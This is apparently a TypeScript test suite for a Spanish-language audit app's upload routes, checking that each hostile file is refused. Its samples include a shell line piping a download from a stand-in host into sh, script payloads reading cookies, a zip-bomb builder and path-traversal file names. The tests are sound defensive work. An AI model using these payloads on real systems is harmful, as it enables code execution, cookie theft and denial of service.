import { readdirSync } from 'node:fs';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { MSG } from '@auditorias/domain/messages';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type call, multipartFile, multipartForm, SAMPLE_JPEG, SAMPLE_PDF, useTestApp } from '../test/app';
import { sqlCount, sqlRows } from '../test/database';
import { reportFigure } from '../test/figures';

/**
 * A corpus of hostile files sent to every upload route: the client files (`POST /api/files?kind=`), the audit
 * attachments (`POST /api/audits` and `PUT /api/audits/:id`, multipart "files") and the worksheet's pasted
 * images (`POST /api/audits/:id/images`, a data URL). Every hostile file is refused in Spanish and leaves
 * nothing stored (rows and files counted before and after); real tiny PNG, JPEG and PDF files are accepted and
 * come back as attachments with nosniff.
 */
const LIMIT = 256 * 1024;
const t = useTestApp({ env: { UPLOAD_MAX_BYTES: String(LIMIT) }, users: ['admin', 'operador1'] });
const { clients, branches, as } = t;
let clientId = 0;
let branchId = 0;
let auditId = 0;
let imageAuditId = 0;
const figures = { refused: 0, accepted: 0 };

const SAMPLE_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://malo.example/x | sh\n');
const JS = Buffer.from('fetch("/api/users").then((r) => r.text()).then(console.log);');

/** A zip archive of `entries` (deflated), each declaring `declaredSize` as its size when given (a lie). */
function zipOf(entries: Array<{ name: string; content: Buffer; declaredSize?: number }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const data = deflateRawSync(e.content, { level: 9 });
    const name = Buffer.from(e.name);
    const size = e.declaredSize ?? e.content.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** 64 MB of zeros in about 64 KB: under the upload limit, a thousand times bigger once opened. */
const ZEROS = Buffer.alloc(64 * 1024 * 1024);
const BOMB = zipOf([{ name: 'ceros.bin', content: ZEROS }]);
/** The same bomb declaring 1 KB: only opening it tells. */
const LYING_BOMB = zipOf([{ name: 'ceros.bin', content: ZEROS, declaredSize: 1024 }]);
/** A bomb inside a zip inside a zip. */
const NESTED_BOMB = zipOf([{ name: 'interior.zip', content: BOMB }]);
/** A bomb dressed as a Word document (a .docx is a zip). */
const DOCX_BOMB = zipOf([
  { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
  { name: 'word/document.xml', content: ZEROS },
]);
const SMALL_ZIP = zipOf([{ name: 'notas.txt', content: Buffer.from('Cámara 3 sin imagen a las 10:15\n') }]);

/** A multipart body with several file parts, each with its own declared content type. */
const multipartParts = (
  parts: Array<{ field?: string; fileName: string; content: Buffer; type?: string }>,
  fields: Record<string, string> = {},
) =>
  multipartForm(
    fields,
    parts.map((p) => ({ ...p, field: p.field ?? 'file' })),
  );

function filesOnDisk(dir: string): number {
  try {
    return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).length;
  } catch {
    return 0;
  }
}

/** What an upload may leave behind: file rows, attachments, pasted images, contents in PostgreSQL and on disk. */
async function stored() {
  const db = t.database.db;
  return {
    files: await sqlCount(db, sql`select count(*)::int as n from stored_files`),
    attachments: await sqlCount(db, sql`select count(*)::int as n from audit_attachments`),
    images: await sqlCount(db, sql`select count(*)::int as n from audit_images`),
    contents: await sqlCount(db, sql`select count(*)::int as n from stored_file_contents`),
    audits: await sqlCount(db, sql`select count(*)::int as n from audits`),
    disk: filesOnDisk(t.config.filesDir),
  };
}

/** Sends a hostile request and checks the Spanish refusal and that nothing was stored. */
async function expectRefused(
  label: string,
  send: () => ReturnType<typeof call>,
  status: number,
  message: string | RegExp,
) {
  const before = await stored();
  const res = await send();
  expect(res.statusCode, `${label}: ${res.body}`).toBe(status);
  const body = res.json();
  expect(body.success, label).toBe(false);
  if (typeof message === 'string') expect(body.message, label).toBe(message);
  else expect(body.message, label).toMatch(message);
  expect(body.message, label).not.toMatch(/\b(the|file|error|limit|reach)\b/i);
  expect(await stored(), label).toEqual(before);
  figures.refused++;
}

const clientFile = (kind: string, parts: Parameters<typeof multipartParts>[0]) => () =>
  as('admin', { method: 'POST', url: `/api/files?kind=${kind}`, ...multipartParts(parts) });
const newAudit = (parts: Parameters<typeof multipartParts>[0]) => () =>
  as('admin', {
    method: 'POST',
    url: '/api/audits',
    ...multipartParts(
      parts.map((p) => ({ field: 'files', ...p })),
      { clienteId: String(clientId), branchId: String(branchId), titulo: 'Con adjuntos hostiles' },
    ),
  });
const editAudit = (parts: Parameters<typeof multipartParts>[0]) => () =>
  as('admin', {
    method: 'PUT',
    url: `/api/audits/${auditId}`,
    ...multipartParts(
      parts.map((p) => ({ field: 'files', ...p })),
      { titulo: 'Editada con adjuntos hostiles' },
    ),
  });
const pasteImage =
  (data: string, name = 'captura.jpg') =>
  () =>
    as('operador1', { method: 'POST', url: `/api/audits/${imageAuditId}/images`, payload: { data, name } });

const MULTIPART_ROUTES = [
  ['POST /api/files?kind=contrato', (p: Parameters<typeof multipartParts>[0]) => clientFile('contrato', p)],
  ['POST /api/audits', newAudit],
  ['PUT /api/audits/:id', editAudit],
] as const;

const notAllowed = /^Tipo de archivo no permitido\. Formatos aceptados: /;
const compressedTooBig =
  'El archivo comprimido se expande demasiado al abrirlo (posible bomba de descompresión)';

beforeAll(async () => {
  clientId = clients['Demo Norte S.A.'] ?? 0;
  branchId = branches['Sucursal Belgrano'] ?? 0;
  const fields = { clienteId: String(clientId), branchId: String(branchId), titulo: 'Destino' };
  const created = await as('admin', { method: 'POST', url: '/api/audits', ...multipartParts([], fields) });
  expect(created.statusCode, created.body).toBe(201);
  auditId = created.json().data.id;
  const working = await as('admin', {
    method: 'POST',
    url: '/api/audits',
    ...multipartParts([], { ...fields, titulo: 'Con imágenes' }),
  });
  imageAuditId = working.json().data.id;
  // Straight to 'en proceso' for operador1 (taking goes through the queue, which is not under test here).
  await t.database.db.execute(
    sql`update audits set estado = 'en_proceso', operador_id = (select id from users where username = 'operador1'),
        fecha_inicio = now() where id = ${imageAuditId}`,
  );
});

afterAll(async () => {
  reportFigure(
    `[seguridad] archivos: ${figures.refused} archivos hostiles rechazados, ${figures.accepted} permitidos aceptados`,
  );
});

describe('hostile files on every multipart upload route', () => {
  for (const [route, send] of MULTIPART_ROUTES) {
    describe(route, () => {
      it('refuses HTML, SVG and scripts renamed to .pdf or .jpg', async () => {
        await expectRefused(
          'html.pdf',
          send([{ fileName: 'informe.pdf', content: HTML }]),
          400,
          'El contenido del archivo no corresponde a un .pdf',
        );
        await expectRefused(
          'svg.jpg',
          send([{ fileName: 'foto.jpg', content: SVG }]),
          400,
          'El contenido del archivo no corresponde a un .jpg',
        );
        await expectRefused(
          'sh.pdf',
          send([{ fileName: 'a.pdf', content: SCRIPT }]),
          400,
          'El contenido del archivo no corresponde a un .pdf',
        );
        await expectRefused(
          'js.png',
          send([{ fileName: 'a.png', content: JS }]),
          400,
          'El contenido del archivo no corresponde a un .png',
        );
      });

      it('refuses double extensions and unknown types, whatever the content', async () => {
        await expectRefused(
          'x.pdf.exe',
          send([{ fileName: 'x.pdf.exe', content: SAMPLE_PDF }]),
          400,
          notAllowed,
        );
        await expectRefused('x.jpg.html', send([{ fileName: 'x.jpg.html', content: HTML }]), 400, notAllowed);
        await expectRefused('x.svg', send([{ fileName: 'x.svg', content: SVG }]), 400, notAllowed);
        await expectRefused(
          'no extension',
          send([{ fileName: 'informe', content: SAMPLE_PDF }]),
          400,
          notAllowed,
        );
        await expectRefused('x.pdf.', send([{ fileName: 'x.pdf.', content: SAMPLE_PDF }]), 400, notAllowed);
      });

      it('refuses a file one byte over UPLOAD_MAX_BYTES and an empty one', async () => {
        const over = Buffer.concat([SAMPLE_PDF, Buffer.alloc(LIMIT + 1 - SAMPLE_PDF.length, 0x20)]);
        expect(over.length).toBe(LIMIT + 1);
        await expectRefused(
          'oversized',
          send([{ fileName: 'grande.pdf', content: over }]),
          413,
          MSG.fileTooLarge,
        );
        await expectRefused(
          'empty',
          send([{ fileName: 'vacio.pdf', content: Buffer.alloc(0) }]),
          400,
          'El archivo está vacío',
        );
      });

      it('refuses a NUL in the name', async () => {
        await expectRefused(
          'nul',
          send([{ fileName: 'a\u0000.html.pdf', content: SAMPLE_PDF }]),
          400,
          MSG.forbiddenCharacters,
        );
      });

      it('refuses the content when the declared content type lies, and ignores the declared type', async () => {
        await expectRefused(
          'html declared pdf',
          send([{ fileName: 'a.pdf', content: HTML, type: 'application/pdf' }]),
          400,
          'El contenido del archivo no corresponde a un .pdf',
        );
      });
    });
  }

  it('refuses too many files: two on the single-file route, eleven on an audit (none stored)', async () => {
    const two = [
      { fileName: 'a.pdf', content: SAMPLE_PDF },
      { fileName: 'b.pdf', content: SAMPLE_PDF },
    ];
    await expectRefused('two files', clientFile('contrato', two), 400, MSG.tooManyFiles);
    const eleven = Array.from({ length: 11 }, (_, i) => ({ fileName: `f${i}.pdf`, content: SAMPLE_PDF }));
    await expectRefused('eleven files (new)', newAudit(eleven), 400, MSG.tooManyFiles);
    await expectRefused('eleven files (edit)', editAudit(eleven), 400, MSG.tooManyFiles);
  });

  it('one hostile file among good ones leaves none of them stored', async () => {
    const mixed = [
      { fileName: 'bueno.pdf', content: SAMPLE_PDF },
      { fileName: 'foto.png', content: SAMPLE_PNG },
      { fileName: 'malo.pdf', content: HTML },
    ];
    await expectRefused(
      'mixed (new)',
      newAudit(mixed),
      400,
      'El contenido del archivo no corresponde a un .pdf',
    );
    await expectRefused(
      'mixed (edit)',
      editAudit(mixed),
      400,
      'El contenido del archivo no corresponde a un .pdf',
    );
    const withEmpty = [
      { fileName: 'bueno.pdf', content: SAMPLE_PDF },
      { fileName: 'vacio.png', content: Buffer.alloc(0) },
    ];
    await expectRefused('empty among good', newAudit(withEmpty), 400, 'El archivo está vacío');
  });

  it('refuses zip bombs: honest, lying about their size, nested, and dressed as .docx', async () => {
    expect(BOMB.length).toBeLessThan(LIMIT);
    expect(NESTED_BOMB.length).toBeLessThan(LIMIT);
    await expectRefused(
      'bomb (new)',
      newAudit([{ fileName: 'ceros.zip', content: BOMB }]),
      400,
      compressedTooBig,
    );
    await expectRefused(
      'lying bomb',
      editAudit([{ fileName: 'ceros.zip', content: LYING_BOMB }]),
      400,
      compressedTooBig,
    );
    await expectRefused(
      'nested bomb',
      newAudit([{ fileName: 'doble.zip', content: NESTED_BOMB }]),
      400,
      compressedTooBig,
    );
    await expectRefused(
      'docx bomb (audit)',
      newAudit([{ fileName: 'informe.docx', content: DOCX_BOMB }]),
      400,
      compressedTooBig,
    );
    await expectRefused(
      'docx bomb (contract)',
      clientFile('contrato', [{ fileName: 'contrato.docx', content: DOCX_BOMB }]),
      400,
      compressedTooBig,
    );
    // A zip is not a contract.
    await expectRefused(
      'zip contract',
      clientFile('contrato', [{ fileName: 'c.zip', content: SMALL_ZIP }]),
      400,
      notAllowed,
    );
  });

  it('answers 400 in Spanish, not 500, to a truncated zip', async () => {
    const cut = BOMB.subarray(0, 4096);
    const before = await stored();
    const res = await newAudit([{ fileName: 'cortado.zip', content: cut }])();
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().message).toBe('El archivo comprimido está dañado o no se puede leer');
    expect(await stored()).toEqual(before);
    figures.refused++;
  });
});

describe('hostile pasted images (data URL)', () => {
  const badImage = 'La imagen debe ser JPEG o PNG de hasta 1 MB';
  const dataUrl = (mime: string, content: Buffer) => `data:${mime};base64,${content.toString('base64')}`;

  it('refuses SVG, HTML, scripts and PDFs, whatever the data URL claims', async () => {
    await expectRefused('svg', pasteImage(dataUrl('image/svg+xml', SVG)), 400, badImage);
    await expectRefused('svg as png', pasteImage(dataUrl('image/png', SVG)), 400, badImage);
    await expectRefused('html as jpeg', pasteImage(dataUrl('image/jpeg', HTML)), 400, badImage);
    await expectRefused('script', pasteImage(dataUrl('image/png', SCRIPT)), 400, badImage);
    await expectRefused('pdf', pasteImage(dataUrl('image/png', SAMPLE_PDF)), 400, badImage);
    await expectRefused('text/html url', pasteImage(dataUrl('text/html', HTML)), 400, badImage);
  });

  it('refuses an image over 1 MB and an empty one', async () => {
    const big = Buffer.concat([SAMPLE_PNG, Buffer.alloc(1024 * 1024)]);
    await expectRefused('big png', pasteImage(dataUrl('image/png', big)), 400, badImage);
    await expectRefused('empty', pasteImage('data:image/png;base64,AAAAAAAAAAAA'), 400, badImage);
  });

  it('refuses a NUL in the name', async () => {
    await expectRefused(
      'nul name',
      pasteImage(dataUrl('image/png', SAMPLE_PNG), 'a\u0000.png'),
      400,
      MSG.forbiddenCharacters,
    );
  });

  it('accepts a real PNG and JPEG, typed by their content, not by the data URL', async () => {
    for (const [mime, content, real] of [
      ['image/png', SAMPLE_PNG, 'image/png'],
      ['image/png', SAMPLE_JPEG, 'image/jpeg'],
    ] as const) {
      const res = await pasteImage(dataUrl(mime, content), '../../x.jpg.html')();
      expect(res.statusCode, res.body).toBe(201);
      const [row] = await sqlRows<{ mime: string }>(
        t.database.db,
        sql`select mime from audit_images where id = ${res.json().data.id}`,
      );
      expect(row?.mime).toBe(real);
      figures.accepted++;
    }
  });
});

describe('allowed files', () => {
  async function download(url: string) {
    const res = await as('admin', { method: 'GET', url });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['cache-control']).toContain('no-store');
    return res;
  }

  it('accepts real PNG, JPEG and PDF bytes on an audit and serves them back as attachments with nosniff', async () => {
    const before = await stored();
    const good = [
      { fileName: 'captura.png', content: SAMPLE_PNG, type: 'image/png' },
      { fileName: 'foto.jpeg', content: SAMPLE_JPEG, type: 'image/jpeg' },
      // The declared content type is ignored: the content decides how it is served.
      { fileName: 'informe.pdf', content: SAMPLE_PDF, type: 'text/html' },
      { fileName: 'notas.zip', content: SMALL_ZIP, type: 'application/zip' },
    ];
    const res = await editAudit(good)();
    expect(res.statusCode, res.body).toBe(200);
    const after = await stored();
    expect(after.files - before.files).toBe(4);
    expect(after.attachments - before.attachments).toBe(4);
    const expected: Record<string, string> = {
      'captura.png': 'image/png',
      'foto.jpeg': 'image/jpeg',
      'informe.pdf': 'application/pdf',
      'notas.zip': 'application/zip',
    };
    for (const f of good) {
      const got = await download(`/api/audits/${auditId}/download-attachment/${f.fileName}`);
      expect(got.headers['content-type'], f.fileName).toBe(expected[f.fileName]);
      expect(got.rawPayload.equals(f.content), f.fileName).toBe(true);
      figures.accepted++;
    }
  });

  it('keeps only the base name of a path-traversal name, and writes inside FILES_DIR only', async () => {
    for (const fileName of ['../../../../etc/cron.d/x.pdf', '..\\..\\windows\\x.pdf', '/etc/passwd.pdf']) {
      const res = await as('admin', {
        method: 'POST',
        url: '/api/files?kind=contrato',
        ...multipartFile(fileName, SAMPLE_PDF),
      });
      expect(res.statusCode, res.body).toBe(201);
      expect(res.json().data.nombre, fileName).not.toMatch(/[\\/]|\.\./);
      figures.accepted++;
    }
    const keys = await sqlRows<{ storage_key: string }>(
      t.database.db,
      sql`select storage_key from stored_files`,
    );
    for (const k of keys) expect(k.storage_key).toMatch(/^[0-9a-f]{32}$/);
    const onDisk = readdirSync(t.config.filesDir, { recursive: true }) as string[];
    expect(onDisk.every((p) => !p.includes('..') && !path.isAbsolute(p))).toBe(true);
  });

  it('serves a client contract and procedure as attachments with nosniff, named safely', async () => {
    const upload = async (kind: string, fileName: string, content: Buffer) => {
      const res = await as('admin', {
        method: 'POST',
        url: `/api/files?kind=${kind}`,
        ...multipartFile(fileName, content),
      });
      expect(res.statusCode, res.body).toBe(201);
      figures.accepted++;
      return res.json().data.id as number;
    };
    const contract = await upload('contrato', 'contrato; firmado ñ.pdf', SAMPLE_PDF);
    const procedure = await upload('procedimiento', 'pasos.txt', HTML);
    await t.database.db.execute(
      sql`update clients set contrato_archivo_id = ${contract}, archivo_procedimiento_id = ${procedure} where id = ${clientId}`,
    );
    const got = await download(`/api/clients/${clientId}/contract`);
    expect(got.headers['content-type']).toBe('application/pdf');
    expect(got.headers['content-disposition']).toContain(
      `filename*=UTF-8''${encodeURIComponent('contrato; firmado ñ.pdf')}`,
    );
    // An HTML text uploaded as a .txt procedure is served as plain text, to be saved, never rendered.
    const text = await download(`/api/clients/${clientId}/procedure`);
    expect(text.headers['content-type']).toBe('text/plain; charset=utf-8');
  });
});
